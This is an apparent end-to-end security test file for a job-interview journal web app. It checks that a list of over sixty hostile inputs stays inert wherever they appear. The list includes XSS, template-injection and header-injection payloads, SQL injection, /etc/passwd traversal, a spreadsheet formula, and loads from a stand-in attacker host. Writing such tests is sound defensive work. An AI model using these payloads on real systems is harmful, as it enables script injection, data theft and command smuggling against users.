"""Hostile words, of the classes that filters are evaded with, in every field and file: they stay words."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from contextlib import ExitStack
from email.headerregistry import Address
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser as Chrome
from playwright.sync_api import Dialog
from starlette.testclient import TestClient

from wentwell.journal import CalendarFeed, Journal, MailBook
from wentwell.web import create_app

from .browsing import DESKTOP, served
from .pages import ADDRESS, Browser
from .rooms import every_page
from .test_browser import chrome  # noqa: F401 - a fixture

pytestmark = pytest.mark.e2e

_DO = "window.got=1"
HOSTILE = (
    # tags
    f"<script>{_DO}</script>",
    f"<ScRiPt >{_DO}</sCrIpT >",
    f"<script\x0d\x0a>{_DO}</script\t>",
    f"<<script>{_DO};//<</script>",
    f"<script/x>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.got=1></script>",
    '<noscript><p title="</noscript><img src=x onerror=window.got=1>">',
    f"<!--<script>{_DO}//--></script>",
    f"<![CDATA[<script>{_DO}</script>]]>",
    # handlers
    f"<img src=x onerror={_DO}>",
    f"<img src=x onerror='{_DO}'//",
    f'"><img src=x onerror="{_DO}">',
    f"'><img src=x onerror={_DO}>",
    f"`><img src=x onerror={_DO}>",
    f"<img/src=`x`/onerror={_DO}>",
    f'<IMG """><SCRIPT>{_DO}</SCRIPT>">',
    f"<body onload={_DO}>",
    f"<details open ontoggle={_DO}><summary>x</summary></details>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}></audio>",
    f"<marquee onstart={_DO}>x</marquee>",
    f"<select autofocus onfocus={_DO}></select>",
    # out of a field or an element
    f'" autofocus onfocus="{_DO}',
    f"' onmouseover='{_DO}",
    f"</textarea><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</style><script>{_DO}</script>",
    f"--><script>{_DO}</script>",
    f"</option></select><img src=x onerror={_DO}>",
    # addresses
    f"javascript:{_DO}",
    f"<a href=javascript:{_DO}>x</a>",
    f"<a href='jav&#x09;ascript:{_DO}'>x</a>",
    f"<iframe src=javascript:{_DO}></iframe>",
    f"<iframe srcdoc='<script>parent.{_DO.removeprefix('window.')}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<img src=//evil.example/pixel.png>",
    "<form action=//evil.example/><input name=a autofocus></form>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "data:text/html,<script>window.got=1</script>",
    # drawings and formulas
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={_DO}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/b)}</style>",
    "<p style='background:url(//evil.example/c)'>x</p>",
    # templates, and the attributes that our own script reads
    "{{ 7 * 191 }}{% for a in b %}",
    "${7*191}#{7*191}<%= 7*191 %>",
    "{{ ''.__class__.__mro__ }}",
    f"<div hx-on:load='{_DO}' hx-get='//evil.example/' hx-trigger='load'>x</div>",
    "<div hx-get='/settings/export.json' hx-trigger='load' data-copy='#x' data-drop>x</div>",
    # letters
    f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_DO}+ADw-/script+AD4-",
    f"%3Cscript%3E{_DO}%3C/script%3E",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
    f"<\u017fcript>{_DO}</\u017fcript>",
    "\u202e\u2066right to left\u2069 <img src=x onerror=window.got=1>",
    "e" + "\u0301" * 60 + "<b>",
    "\x1b[31mred\x1b]8;;http://evil.example\x07link\x07",
    # lines and headers
    "name\r\nSet-Cookie: got=1\r\nLocation: //evil.example/",
    "'; DROP TABLE interviews; --",
    "../../../../etc/passwd",
    '=HYPERLINK("http://evil.example","x")',
)
GROUPS = [" ".join(HOSTILE[place : place + 3]) for place in range(0, len(HOSTILE), 3)]
"""As many as the shortest field holds, so that each stands in every field."""
LONG = "<b>" * 5_000
COLD = "I rambled when they asked about my weaknesses."
NUL = "a\x00<script>window.got=1</script>"


def test_the_set_is_as_wide_as_it_says() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A journal in which every word is hostile, made as a browser and a program make it."""
    place = tmp_path_factory.mktemp("hostile") / "journal.sqlite"
    with TestClient(create_app(place), base_url=ADDRESS, raise_server_exceptions=False) as client:
        for number, words in enumerate(GROUPS, 1):
            given: dict[str, Any] = {
                "opportunity": {"employer": words, "job": words},
                "feeling": words,
                "context": {"stage": "first"},
                "documents": [{"text": f"They asked when I could start. {words}", "name": words}],
            }
            answer = client.post("/api/v1/interviews", json=given)
            assert answer.status_code == 201, (words, answer.text)
            assert answer.json()["number"] == number
        browser = Browser(client)
        everything = "\n\n".join((COLD, *HOSTILE, LONG, NUL))
        browser.open("/debrief/1/words")
        browser.send("/debrief/1/words", files=_files("\n\n".join(HOSTILE)), notes=everything)
        browser.open("/interview/1")
        browser.send("/interview/1/outcome$", kind="no-answer", note=everything[:1900])
        assert browser.status == 200
        _fill_the_other_rooms(client, place, everything)
    return place


def _fill_the_other_rooms(client: TestClient, place: Path, everything: str) -> None:
    """Put hostile words into what is kept about jobs, into mails, cards and settings."""
    for number, words in enumerate(GROUPS, 1):
        details = {
            "tags": [one[:40] for one in words.split()[:3]],
            "deadline": {"day": "2031-01-08", "what": words},
            "contacts": [{"name": words, "role": words, "mail": f"{words.split()[0][:40]}@x.example"}],
            "domains": ["bakery.example"] if number == 1 else [words],
            **dict.fromkeys(("url", "place", "source", "note"), words),
        }
        answer = client.put(f"/api/v1/jobs/{number}", json={"details": details})
        assert answer.status_code == 200, answer.text
        moved = client.post(f"/api/v1/jobs/{number}/moves", json={"stage": "final", "note": words})
        assert moved.status_code == 200, moved.text
    box = "".join(
        f"From x@y Thu Mar  6 10:00:00 2031\n{_mail(number, ' '.join(words.split()))}\n"
        for number, words in enumerate(GROUPS, 1)
    )
    browser = Browser(client)
    browser.open("/inbox")
    browser.send("/inbox/add", files=[("files", (f"{HOSTILE[0]}.mbox", box.encode()))])
    kept = client.get("/api/v1/mails").json()
    assert len(kept) == len(GROUPS), "each is about the job, or may be"
    for mail in kept[:6]:
        assert client.post(f"/api/v1/mails/{mail['number']}/file", json={"job": 1}).status_code == 200
    assert client.get("/api/v1/inbox").json()["waiting"]
    (card, *_) = client.post("/api/v1/interviews/1/practice").json()
    for path, body in (("question", {"question": everything[:1000]}), ("answer", {"answer": everything})):
        answer = client.put(f"/api/v1/practice/{card['number']}/{path}", json=body)
        assert answer.status_code == 200, answer.text
    with Journal.open(place) as book:
        MailBook(book).add_addresses([f"{words.replace(' ', '')[:300]}@x" for words in GROUPS])
        book.keep_calendar_feed(CalendarFeed(path=str(place.with_name(f"{HOSTILE[12]}.ics"))))


def _mail(number: int, words: str) -> str:
    """Return a mail with hostile words as sender, subject and text, and as the name of what is attached."""
    mail = EmailMessage(policy=SMTP.clone(utf8=True))
    mail["From"] = Address(words, "piet", "bakery.example")
    mail["Subject"] = f"The job at the bakery {words}"
    mail["Message-ID"] = f"<{number}@bakery.example>"
    mail.set_content(f"We decided to go ahead with another candidate. {words}")
    mail.add_attachment(b"%PDF", maintype="application", subtype="pdf", filename=words)
    return mail.as_bytes().decode("utf-8", "replace")


def _files(words: str) -> list[tuple[str, tuple[str, bytes, str]]]:
    """Every kind of file that a debrief takes, with hostile words inside and as its name."""
    spoken = "\n\n".join(
        f"00:00:{place % 60:02d}.000 --> 00:00:{place % 60:02d}.900\n<v {one[:40]}>{one}"
        for place, one in enumerate(HOSTILE)
    )
    mail = (
        f'From: "{HOSTILE[12]}" <a@bakery.example>\r\nSubject: {HOSTILE[0]}\r\nMIME-Version: 1.0\r\n'
        "Content-Type: text/html; charset=utf-8\r\n\r\n<p>Thank you. We will call.</p>" + words
    )
    table = "speaker,text\n" + "\n".join('"A","' + one.replace('"', '""') + '"' for one in HOSTILE)
    return [
        ("files", (f"{HOSTILE[0]}.txt", words.encode(), "text/plain")),
        ("files", (f"{HOSTILE[14]}.vtt", f"WEBVTT\n\n{spoken}\n".encode(), "text/vtt")),
        ("files", ("<svg onload=window.got=1>.eml", mail.encode("utf-8", "replace"), "message/rfc822")),
        ("files", ("x.csv", table.encode(), "text/csv")),
        ("files", ("x.html", f"<p>They asked when.</p>{words}".encode(), "text/html")),
    ]


@pytest.fixture
def watched(
    chrome: Chrome,  # noqa: F811
    hostile: Path,
    tmp_path: Path,
) -> Iterator[tuple[Any, list[str]]]:
    """A page on a copy of that journal, and what it did that words do not do."""
    with ExitStack() as stack:
        copy = tmp_path / "journal.sqlite"
        with Journal.open(hostile) as book:
            book.backup(copy)
        address = stack.enter_context(served(copy))
        context = chrome.new_context(base_url=address, **DESKTOP)
        stack.callback(context.close)
        did: list[str] = []
        context.on(
            "request",
            lambda request: (
                None
                if request.url.startswith((address, "data:image"))
                else did.append(f"asked {request.url}")
            ),
        )
        page = context.new_page()

        def told(dialog: Dialog) -> None:
            did.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", told)
        page.on("pageerror", lambda error: did.append(str(error)))
        # the policy would stop it; but nothing may even need to be stopped
        page.on(
            "console",
            lambda said: did.append(said.text) if "Content Security Policy" in said.text else None,
        )
        yield page, did


def _is_inert(page: Any, did: list[str]) -> None:
    assert page.evaluate("window.got") is None, page.url
    assert did == [], page.url
    strange = "main script, main iframe, main object, main embed, main base, main link, main meta, main img"
    assert page.locator(strange).count() == 0, page.url
    assert "1337" not in page.locator("body").inner_text(), page.url


def test_every_word_is_inert_where_it_is_shown(watched: tuple[Any, list[str]]) -> None:
    page, did = watched
    page.goto("/?all=1")
    assert page.locator("main li").count() >= len(GROUPS)
    _is_inert(page, did)
    for number in range(2, len(GROUPS) + 1):
        for path in (f"/interview/{number}", f"/job/{number}"):
            page.goto(path, wait_until="domcontentloaded")
            _is_inert(page, did)


def test_all_of_them_are_inert_on_every_page(watched: tuple[Any, list[str]]) -> None:
    page, did = watched
    pages = [
        *every_page(1),
        *(f"/interview/1/text/{place}" for place in range(1, 7)),
        "/inbox?all=1",
        "/board?q=%3Cimg+src%3Dx+onerror%3Dwindow.got%3D1%3E&all=yes",
        "/board?tag=%22%3E%3Cimg+src%3Dx+onerror%3Dwindow.got%3D1%3E",
    ]
    for path in pages:
        page.goto(path)
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        _is_inert(page, did)


def test_a_table_of_them_is_inert(watched: tuple[Any, list[str]]) -> None:
    page, did = watched
    told = io.StringIO()
    rows = csv.writer(told)
    rows.writerow(["Company", "Role", "Status", "Notes", *HOSTILE[:20]])
    for words in GROUPS:
        rows.writerow([f"New {words}", words, words, words, *HOSTILE[20:40]])
    page.goto("/import")
    given = {"name": f"{HOSTILE[12]}.csv", "mimeType": "text/csv", "buffer": told.getvalue().encode()}
    page.get_by_label("A .csv, .tsv or .xlsx file").set_input_files([given])
    page.get_by_role("button", name="Look at it").click()
    page.wait_for_url("**/import/*")
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    assert page.locator("body").inner_text().count("window.got=1") > 20
    _is_inert(page, did)
    with page.expect_navigation():
        page.evaluate(_SEND, ["/import/", "", {"do": "take"}])
    _is_inert(page, did)


_SEND = """([action, words, more]) => {
  const form = [...document.forms].find((one) => new URL(one.action).pathname.startsWith(action))
  for (const field of words ? form.elements : []) {
    if (!field.name || ['hidden', 'file', 'submit', 'fieldset'].includes(field.type)) continue
    if (field.tagName === 'SELECT') field.add(new Option(words, words, true, true))
    else if (['radio', 'checkbox'].includes(field.type)) { field.value = words; field.checked = true }
    else { if (field.tagName === 'INPUT') field.type = 'text'; field.maxLength = 1e6; field.value = words }
  }
  for (const [name, value] of Object.entries(more)) {
    const field = document.createElement('input')
    Object.assign(field, { type: 'hidden', name, value })
    form.append(field)
  }
  HTMLFormElement.prototype.submit.call(form)
}"""
"""Puts words into every field of a form, also where one could only choose, and sends it."""


def test_what_does_not_fit_comes_back_inert(watched: tuple[Any, list[str]]) -> None:
    page, did = watched
    words = '"></select><img src=x onerror=window.got=1><svg onload=window.got=1>'
    sent = []
    for path, action in (
        ("/interview/3", "/interview/3/context"),
        ("/interview/3", "/interview/3/correct"),
        ("/interview/3", "/interview/3/outcome"),
        ("/debrief/3/job", "/debrief/3/job"),
        ("/debrief/3/talk", "/debrief/3/talk"),
        ("/board/new", "/board/new"),
        ("/board", "/board"),
        ("/job/3", "/job/3/move"),
        ("/job/3/edit", "/job/3/edit"),
        ("/inbox", "/inbox/add"),
        ("/practice/1", "/practice/1"),
        ("/practice/1", "/practice/1/question"),
        ("/record", "/record/of"),
        ("/pace", "/pace"),
        ("/settings", "/settings/delete-all"),
        ("/interview/3/letter/thanks", "/interview/3/letter/thanks"),
    ):
        page.goto(path)
        if page.evaluate("(to) => [...document.forms].every((one) => !one.action.includes(to))", action):
            continue  # shown only where there is something to send
        with page.expect_navigation():
            page.evaluate(_SEND, [action, words, {}])
        sent.append(action)
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        _is_inert(page, did)
    assert len(sent) >= 14, sent
    for number, what in ((2, "interview"), (2, "job")):
        page.goto(f"/{what}/{number}/delete")
        page.get_by_role("button", name="Delete it", exact=True).click()
        _is_inert(page, did)
    page.get_by_role("button", name="Put it back").first.click()
    _is_inert(page, did)


def test_what_is_saved_is_inert_when_it_is_opened(watched: tuple[Any, list[str]], tmp_path: Path) -> None:
    page, did = watched
    answer = page.request.get("/interview/1/file.html")
    assert answer.status == 200
    assert "attachment" in answer.headers["content-disposition"]
    (tmp_path / "saved.html").write_bytes(answer.body())
    page.goto((tmp_path / "saved.html").as_uri())
    assert page.evaluate("window.got") is None
    assert [one for one in did if "saved.html" not in one] == []


def test_no_header_is_made_of_words(hostile: Path) -> None:
    with TestClient(create_app(hostile), base_url=ADDRESS) as client:
        for path in every_page(next(n for n, words in enumerate(GROUPS, 1) if "Set-Cookie" in words)):
            answer = client.get(path, follow_redirects=False)
            assert "got=1" not in str(answer.headers)
            assert "evil.example" not in str(answer.headers)
